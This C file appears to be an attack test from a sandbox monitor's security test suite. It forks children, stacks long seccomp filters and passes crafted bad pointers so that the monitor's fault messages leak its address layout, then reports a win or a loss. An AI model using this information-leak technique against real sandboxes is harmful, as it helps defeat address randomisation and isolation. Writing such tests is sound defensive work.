// The monitor's last words go to the payload's standard error where krun has no log.  A child that was made by fork has
// its parent's addresses: what the monitor of a dying child says about its own addresses, it says about the parent's.
// The words are had by a SIGSEGV that looks like a fault of the monitor: the exit signal of a child has a positive code, and
// its pid and uid stand where a fault has its address.  The processor's record of the last fault agrees after a call with
// that bad pointer, and a long filter keeps the thread in the monitor's code.
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>

// Makes every call long: 28 000 instructions that look at an argument, so that no verdict is kept.
static void slow_filters(void) {
    enum { N = 4000 };
    static struct sock_filter f[N];
    for (int i = 0; i < N - 1; i++)
        f[i] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0]));
    f[N - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog p = {N, f};
    for (int i = 0; i < 7; i++)
        if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p) < 0)
            attack_broken("seccomp");
}

static void doomed(int words) {
    dup2(words, 2);
    signal(SIGSEGV, SIG_IGN);
    for (int n = 0; n < 50 && !attack_over(); n++) {
        pid_t pid = (pid_t)syscall(SYS_clone, (long)SIGSEGV, 0, 0, 0, 0);
        if (pid == 0) {
            usleep(50000);
            _exit(0);
        }
        if (n == 0)
            slow_filters();
        uint64_t bad = (uint64_t)getuid() << 32 | (uint32_t)pid;
        for (int i = 0; i < 400 && kill(pid, 0) == 0; i++) {
            syscall(SYS_rt_sigprocmask, SIG_BLOCK, bad, NULL, 8);
            if (waitpid(pid, NULL, __WALL | WNOHANG) == pid)
                break;
        }
    }
    _exit(0);
}

int main(void) {
    char text[4096] = "";
    size_t n = 0;
    ssize_t r;
    int p[2];
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    if (pipe(p) < 0)
        attack_broken("pipe");
    if (fork() == 0)
        doomed(p[1]);
    close(p[1]);
    while (n < sizeof text - 1 && (r = read(p[0], text + n, sizeof text - 1 - n)) > 0)
        n += (size_t)r;
    for (char *s = text; (s = strstr(s, "0x")); s += 2)
        if (strtoul(s, NULL, 16) >= ATTACK_WINDOW_END)
            attack_won("the monitor of a child says addresses that are its parent's as well: %.*s",
                       (int)strcspn(text, "\n"), text);
    attack_lost();
}
